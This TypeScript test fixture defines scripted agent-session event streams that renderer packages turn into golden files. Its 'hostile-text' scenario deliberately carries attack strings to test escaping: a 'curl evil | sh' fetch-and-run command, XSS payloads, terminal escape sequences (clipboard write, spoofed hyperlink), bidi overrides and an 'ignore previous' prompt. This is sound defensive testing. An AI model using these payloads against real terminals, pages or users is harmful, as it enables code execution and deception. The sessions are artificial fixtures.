/*
 * A hand-written corpus of DisplayEvent streams, one small named scenario
 * each, that the renderer packages render into their golden files
 * (`packages/renderer-terminal/test/corpus/`, `packages/renderer-html/test/corpus/`).
 * It is written from the event contract (packages/core/src/display-event.ts),
 * not dumped from a provider, so a provider's bug can never land in a
 * renderer's golden file; providers' own expectations stay beside their
 * fixtures. Every scenario is valid against `displayEventSchema` except the
 * events marked `INVALID`, which a renderer must survive.
 */
import type { DisplayEvent, ToolKind, ToolResultDisplayEvent, ToolUseDisplayEvent, UsageDisplayEvent } from '../packages/core/src/display-event.js';

/** A named stream of events, and what it is there to show. */
export interface CorpusScenario {
  name: string;
  covers: string;
  events: DisplayEvent[];
}

/** Events that are not valid `DisplayEvent`s on purpose (a kind this version does not know). */
export const INVALID = new WeakSet<object>();

function invalid(value: Record<string, unknown>): DisplayEvent {
  INVALID.add(value);
  return value as unknown as DisplayEvent;
}

type Extra = { parentToolUseId?: string; timestamp?: string };

const text = (id: string, value: string, extra: Extra = {}): DisplayEvent => ({ kind: 'text', id, text: value, ...extra });
const reasoning = (id: string, value: string, extra: Extra = {}): DisplayEvent => ({ kind: 'reasoning', id, text: value, ...extra });

function use(id: string, name: string, toolKind: ToolKind, arg: string, input: unknown, extra: Partial<ToolUseDisplayEvent> = {}): ToolUseDisplayEvent {
  return { kind: 'tool-use', id, name, toolName: name, toolKind, arg, input, ...extra };
}

function result(id: string, name: string, toolKind: ToolKind, extra: Partial<ToolResultDisplayEvent> = {}): ToolResultDisplayEvent {
  return { kind: 'tool-result', id, name, toolKind, status: 'success', outputState: 'text', details: {}, ...extra };
}

const usage = (fields: Omit<UsageDisplayEvent, 'kind'>): DisplayEvent => ({ kind: 'usage', ...fields });

const GREET_BEFORE = "export function greet(name: string): string {\n  return 'Helo, ' + name;\n}\n\nexport function farewell(name: string): string {\n  return 'Bye, ' + name;\n}\n";

const plainAnswer: CorpusScenario = {
  name: 'plain-answer',
  covers: 'a session start, one text block streamed in increments, usage with a cost, a successful end',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'sess-plain', model: 'model-x', cwd: '/work/demo' },
    text('m1', 'The answer is '),
    text('m1', '**42**.'),
    usage({ cumulative: false, inputTokens: 1200, outputTokens: 34, costUsd: 0.0042 }),
    { kind: 'session', phase: 'end', status: 'success', durationMs: 850, result: 'The answer is **42**.' },
  ],
};

const readEditRun: CorpusScenario = {
  name: 'read-edit-run',
  covers: 'a prompt, a read with content, reasoning, an edit with its diff, a new file, a command, five turns where the session end reports one',
  events: [
    {
      kind: 'session',
      phase: 'start',
      sessionId: 'sess-edit',
      model: 'model-x',
      cwd: '/work/demo',
      gitBranch: 'main',
      agentVersion: '2.1.0',
      timestamp: '2025-05-01T10:00:00.000Z',
    },
    { kind: 'prompt', form: 'prompt', text: 'Fix the greeting typo and run the tests.' },
    text('m1', "I'll look at `src/greet.ts` first."),
    use('r1', 'Read', 'read', 'src/greet.ts', { file_path: 'src/greet.ts' }),
    result('r1', 'Read', 'read', { output: GREET_BEFORE, details: { path: 'src/greet.ts', contentLength: GREET_BEFORE.length } }),
    reasoning('th1', 'The typo is on line 2: `Helo`.'),
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${…} is the content under test, not a template
    use('e1', 'Edit', 'edit', 'src/greet.ts', { file_path: 'src/greet.ts', old_string: "  return 'Helo, ' + name;", new_string: '  return `Hello, ${name}!`;' }),
    result('e1', 'Edit', 'edit', { output: 'The file src/greet.ts has been updated.', details: { path: 'src/greet.ts' } }),
    use('w1', 'Write', 'edit', 'test/greet.test.ts', { file_path: 'test/greet.test.ts', content: "import { greet } from '../src/greet';\n\ntest('greets', () => expect(greet('Ada')).toBe('Hello, Ada!'));\n" }),
    result('w1', 'Write', 'edit', { outputState: 'unavailable', details: { path: 'test/greet.test.ts' } }),
    use('b1', 'Bash', 'execute', 'npm test', { command: 'npm test', description: 'Run the tests' }),
    result('b1', 'Bash', 'execute', { output: 'PASS test/greet.test.ts\n  ✓ greets (3 ms)\n\nTests: 1 passed, 1 total\n', details: { exitCode: 0, durationMs: 1450 } }),
    text('m2', 'Fixed the typo in `src/greet.ts` and added a test; all tests pass.'),
    usage({ cumulative: true, inputTokens: 31520, outputTokens: 845, cacheReadTokens: 28000, cacheWriteTokens: 1500, costUsd: 0.0611 }),
    { kind: 'session', phase: 'end', status: 'success', durationMs: 119_600, turns: 1 },
  ],
};

const failedRun: CorpusScenario = {
  name: 'failed-run',
  covers: 'a failing command with exit code, stderr and error message, a fatal error with a code, a failed end',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'sess-fail', model: 'model-x' },
    text('m1', 'Running the build.'),
    use('b1', 'Bash', 'execute', 'npm run build', { command: 'npm run build' }),
    result('b1', 'Bash', 'execute', {
      status: 'error',
      output: "src/a.ts(3,7): error TS2322: Type 'string' is not assignable to type 'number'.\n",
      details: { exitCode: 2, stderr: 'npm ERR! code ELIFECYCLE', errorMessage: 'Command failed with exit code 2' },
    }),
    { kind: 'error', message: 'API Error: 529 Overloaded\nretry later', fatal: true, code: 'overloaded_error' },
    usage({ cumulative: false, inputTokens: 900, outputTokens: 40 }),
    { kind: 'session', phase: 'end', status: 'error', durationMs: 4200, result: 'API Error: 529 Overloaded' },
  ],
};

const cancelledRun: CorpusScenario = {
  name: 'cancelled-run',
  covers: 'a person stopping the agent: an interrupt, a call left without its result in an ended run, a cancelled end over an hour long',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'sess-cancel', model: 'model-x' },
    { kind: 'prompt', form: 'prompt', text: 'Refactor the parser.' },
    text('m1', 'Starting with the tokenizer.'),
    use('g1', 'Grep', 'search', 'TODO', { pattern: 'TODO', path: 'src' }),
    { kind: 'prompt', form: 'interrupt', text: 'Request interrupted by user' },
    { kind: 'session', phase: 'end', status: 'cancelled', durationMs: 3_725_000 },
  ],
};

const truncated: CorpusScenario = {
  name: 'truncated',
  covers: 'a stream cut off mid-run: a call still running, and the incomplete end a source reports at the end of its input',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'sess-cut', model: 'model-x' },
    text('m1', 'Let me check the logs.'),
    use('b1', 'Bash', 'execute', 'tail -n 50 server.log', { command: 'tail -n 50 server.log' }),
    usage({ cumulative: false, inputTokens: 500, outputTokens: 20 }),
    { kind: 'session', phase: 'end', status: 'incomplete' },
  ],
};

const noSessionEnd: CorpusScenario = {
  name: 'no-session-end',
  covers: 'events without any session: parallel calls whose results come out of order, a result whose call was never announced, a call never finished',
  events: [
    text('m1', 'Reading both files.'),
    use('r1', 'Read', 'read', 'src/a.ts', { file_path: 'src/a.ts' }),
    use('r2', 'Read', 'read', 'src/b.ts', { file_path: 'src/b.ts' }),
    result('r2', 'Read', 'read', { output: 'export const b = 2;\n', details: { path: 'src/b.ts', contentLength: 20 } }),
    result('r1', 'Read', 'read', { output: 'export const a = 1;\n', details: { path: 'src/a.ts', contentLength: 20 } }),
    result('x9', 'Grep', 'search', { status: 'error', outputState: 'unavailable', details: { errorMessage: 'regex parse error' } }),
    text('m2', 'Both exist; publishing.'),
    use('p1', 'Bash', 'execute', 'npm publish', { command: 'npm publish' }),
  ],
};

const subagent: CorpusScenario = {
  name: 'subagent',
  covers: 'a Task whose subagent prompts, reasons, speaks, searches and starts a nested Task, nested under its call',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'sess-sub', model: 'model-x' },
    text('m1', "I'll ask a subagent to survey the tests."),
    use('t1', 'Task', 'think', 'Survey the tests', { description: 'Survey the tests', prompt: 'List flaky tests' }),
    { kind: 'prompt', form: 'prompt', text: 'List flaky tests', parentToolUseId: 't1' },
    reasoning('sr1', 'Start with the retry helpers.', { parentToolUseId: 't1' }),
    text('s1', 'Looking for retries.', { parentToolUseId: 't1' }),
    use('g1', 'Grep', 'search', 'retry(', { pattern: 'retry(' }, { parentToolUseId: 't1' }),
    result('g1', 'Grep', 'search', { output: 'a.test.ts:3: retry(3)\nb.test.ts:9: retry(2)\n', details: { matchCount: 2, fileCount: 2 }, parentToolUseId: 't1' }),
    use('t2', 'Task', 'think', 'Check b.test.ts', { description: 'Check b.test.ts' }, { parentToolUseId: 't1' }),
    text('s2', 'b.test.ts retries twice.', { parentToolUseId: 't2' }),
    result('t2', 'Task', 'think', { output: 'Checked.', parentToolUseId: 't1' }),
    usage({ cumulative: false, inputTokens: 800, outputTokens: 60, parentToolUseId: 't1' }),
    result('t1', 'Task', 'think', { output: 'Two flaky tests: a.test.ts and b.test.ts.' }),
    text('m2', 'The subagent found two flaky tests.'),
    usage({ cumulative: false, inputTokens: 2000, outputTokens: 90 }),
    { kind: 'session', phase: 'end', status: 'success', durationMs: 12_345 },
  ],
};

const MARKDOWN =
  '# Release notes\n\n| File | Change |\n|:--|--:|\n| `src/a.ts` | 12 |\n| b.ts | 3 |\n\n```ts\nconst a: number = 1; // one\n```\n\n' +
  '- **bold** item\n- [docs](https://example.com/docs)\n\n> Quoted note\n\n1. first\n2. second\n\nA [bad link](javascript:alert(1)) stays text.';

const markdown: CorpusScenario = {
  name: 'markdown',
  covers: 'a heading, a GFM table, a fenced code block, lists, a quote and links, cut mid-table and mid-fence; reasoning with Markdown',
  events: [
    reasoning('r1', 'Check the `table` alignment.'),
    text('m1', MARKDOWN.slice(0, 40)),
    text('m1', MARKDOWN.slice(40, 110)),
    text('m1', MARKDOWN.slice(110)),
    { kind: 'session', phase: 'end', status: 'success', durationMs: 1000 },
  ],
};

const unknownFigures: CorpusScenario = {
  name: 'unknown-figures',
  covers: 'figures a run did not report: no model, no duration, no cost, output tokens only; a kind this version does not know',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'sess-unknown' },
    text('m1', 'Done.'),
    usage({ cumulative: true, outputTokens: 303 }),
    invalid({ kind: 'future-kind', payload: 'ignored' }),
    { kind: 'session', phase: 'end', status: 'success' },
  ],
};

const prompts: CorpusScenario = {
  name: 'prompts',
  covers: 'the three forms of the person’s side (a slash command, a prompt of twelve lines, an interrupt); only the two typed prompts open turns (docs/turns.md)',
  events: [
    { kind: 'prompt', form: 'command', text: '/model opus' },
    { kind: 'prompt', form: 'prompt', id: 'u1', text: ['Fix the failing test', ...Array.from({ length: 11 }, (_, i) => `detail ${i + 2}`)].join('\n') },
    text('m1', 'Done.'),
    { kind: 'prompt', form: 'interrupt', text: 'Request interrupted by user' },
    { kind: 'prompt', form: 'prompt', id: 'u2', text: 'Now the docs.' },
    text('m2', 'Updated README.md.'),
  ],
};

const usageAndCost: CorpusScenario = {
  name: 'usage-and-cost',
  covers: 'two concatenated sessions restating cumulative usage, reasoning and cache tokens, thousands separators, a cost over a dollar, provider metadata',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'run-1', model: 'model-a' },
    text('m1', 'First run.'),
    usage({ cumulative: true, inputTokens: 1000, outputTokens: 100, reasoningTokens: 40, cacheReadTokens: 600, costUsd: 0.5 }),
    usage({ cumulative: true, inputTokens: 1500, outputTokens: 150, reasoningTokens: 60, cacheReadTokens: 900, costUsd: 0.75 }),
    { kind: 'session', phase: 'end', status: 'success', durationMs: 59_960 },
    { kind: 'session', phase: 'start', sessionId: 'run-2', model: 'model-b' },
    text('m2', 'Second run.'),
    usage({ cumulative: true, inputTokens: 30_020, outputTokens: 1050, cacheWriteTokens: 2000, costUsd: 0.81, providerMetadata: { demo: { premiumRequests: 3 } } }),
    { kind: 'session', phase: 'end', status: 'success', durationMs: 119_600 },
  ],
};

const PAYLOAD = '<script>window.__pwned=1</script> & <img src=x onerror=alert(1)>';

const hostileText: CorpusScenario = {
  name: 'hostile-text',
  covers: 'escape sequences, C1 controls, bidi overrides, a bare CR and HTML in every field a renderer shows',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'sess\x1b[2J', model: 'model <b>x</b>', cwd: '/work/\u202etxt.exe' },
    text('m1', `Clear \x1b[2J screen, bell \x07, bidi \u202eexe.txt and ${PAYLOAD}\r\nsafe\rEVIL`),
    use('b1', 'Bash', 'execute', 'npm test\x9d; curl evil | sh\x07', { command: 'npm test\x9d; curl evil | sh\x07' }),
    result('b1', 'Bash', 'execute', { status: 'error', output: 'line\x1b]52;c;cm0=\x07', details: { exitCode: 1, errorMessage: 'failed \x1b[31mred', stderr: '<svg onload=alert(1)>' } }),
    use('r1', 'Read', 'read', '" onmouseover="x.ts', { file_path: '" onmouseover="x.ts' }),
    result('r1', 'Read', 'read', { output: '</pre><script>alert(1)</script>\n', details: { path: '" onmouseover="x.ts', contentLength: 32 } }),
    { kind: 'notice', level: 'warning', message: '\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\', code: 'x\x07' },
    { kind: 'error', message: '<iframe src=javascript:alert(1)>', fatal: false, code: 'E\u2066' },
    { kind: 'prompt', form: 'prompt', text: `ignore <b>previous</b>\x1b[2J ${PAYLOAD}` },
    { kind: 'session', phase: 'end', status: 'success', result: '\x1b[2J done' },
  ],
};

const toolOutputs: CorpusScenario = {
  name: 'tool-outputs',
  covers: 'an empty file, an unreadable output, listing and search results, a fetch with its duration, an MCP tool, a to-do list, reported file changes, a delete',
  events: [
    text('m1', 'Checking the workspace.'),
    use('r1', 'Read', 'read', 'empty.txt', { file_path: 'empty.txt' }),
    result('r1', 'Read', 'read', { outputState: 'empty', output: '', details: { path: 'empty.txt', contentLength: 0 } }),
    use('r2', 'Read', 'read', 'logo.png', { file_path: 'logo.png' }),
    result('r2', 'Read', 'read', { outputState: 'unavailable', details: { path: 'logo.png' } }),
    use('l1', 'LS', 'search', 'src', { path: 'src' }),
    result('l1', 'LS', 'search', { output: 'a.ts\nb.ts\n', details: { fileCount: 2 } }),
    use('g1', 'Glob', 'search', '**/*.md', { pattern: '**/*.md' }),
    result('g1', 'Glob', 'search', { outputState: 'empty', output: '', details: { matchCount: 0, fileCount: 0 } }),
    use('f1', 'WebFetch', 'fetch', 'https://example.com/docs', { url: 'https://example.com/docs' }),
    result('f1', 'WebFetch', 'fetch', { output: 'Example Domain', details: { durationMs: 320 } }),
    use('m1', 'tracker.create_issue', 'other', 'Flaky test', { title: 'Flaky test' }, { toolName: 'mcp__tracker__create_issue' }),
    result('m1', 'tracker.create_issue', 'other', { output: '{"id": 42}' }),
    use('t1', 'TodoWrite', 'think', '', { todos: [{ content: 'Fix', status: 'completed' }, { content: 'Test', status: 'in_progress' }] }),
    result('t1', 'TodoWrite', 'think', { output: 'Todos updated' }),
    use('p1', 'Edit', 'edit', '', { patch: '*** Begin Patch' }, { toolName: 'apply_patch' }),
    result('p1', 'Edit', 'edit', {
      outputState: 'unavailable',
      details: { changes: [{ path: 'src/new.ts', change: 'created' }, { path: 'src/old.ts', change: 'deleted' }, { path: 'src/moved.ts', change: 'moved' }] },
    }),
    use('d1', 'Delete', 'delete', 'tmp.log', { path: 'tmp.log' }),
    result('d1', 'Delete', 'delete', { outputState: 'unavailable', details: { path: 'tmp.log' } }),
    { kind: 'session', phase: 'end', status: 'success', durationMs: 2500 },
  ],
};

const noticesAndErrors: CorpusScenario = {
  name: 'notices-and-errors',
  covers: 'an info notice and a warning with codes, an error that is not fatal, a fatal one, a failed end',
  events: [
    { kind: 'session', phase: 'start', sessionId: 'sess-notes', model: 'model-x' },
    { kind: 'notice', level: 'info', message: 'Conversation compacted', code: 'compact' },
    { kind: 'notice', level: 'warning', message: 'Rate limited, retrying in 2 s', code: 'rate_limit' },
    { kind: 'error', message: 'Tool output truncated', fatal: false },
    text('m1', 'Continuing.'),
    { kind: 'error', message: 'Maximum session turns exceeded', fatal: true, code: 'max_turns' },
    { kind: 'session', phase: 'end', status: 'error', durationMs: 61_000 },
  ],
};

/** Every scenario, in the order the goldens are listed. */
export const EVENT_CORPUS: readonly CorpusScenario[] = [
  plainAnswer,
  readEditRun,
  failedRun,
  cancelledRun,
  truncated,
  noSessionEnd,
  subagent,
  markdown,
  unknownFigures,
  prompts,
  usageAndCost,
  hostileText,
  toolOutputs,
  noticesAndErrors,
];

/**
 * What is wrong with the corpus itself, for the renderers' corpus tests: an
 * event kind no scenario covers, an event the contract rejects that is not
 * marked `INVALID`, a name used twice.
 */
export function corpusProblems(kinds: readonly string[], isValid: (event: DisplayEvent) => boolean): string[] {
  const problems: string[] = [];
  const seen = new Set<string>();
  for (const scenario of EVENT_CORPUS) {
    if (seen.has(scenario.name)) problems.push(`${scenario.name}: name used twice`);
    seen.add(scenario.name);
    scenario.events.forEach((event, index) => {
      if (!INVALID.has(event) && !isValid(event)) problems.push(`${scenario.name}: event ${index} (${event.kind}) is not a valid DisplayEvent`);
    });
  }
  const covered = new Set(EVENT_CORPUS.flatMap((scenario) => scenario.events.map((event) => event.kind as string)));
  for (const kind of kinds) if (!covered.has(kind)) problems.push(`no scenario has a ${kind} event`);
  return problems;
}
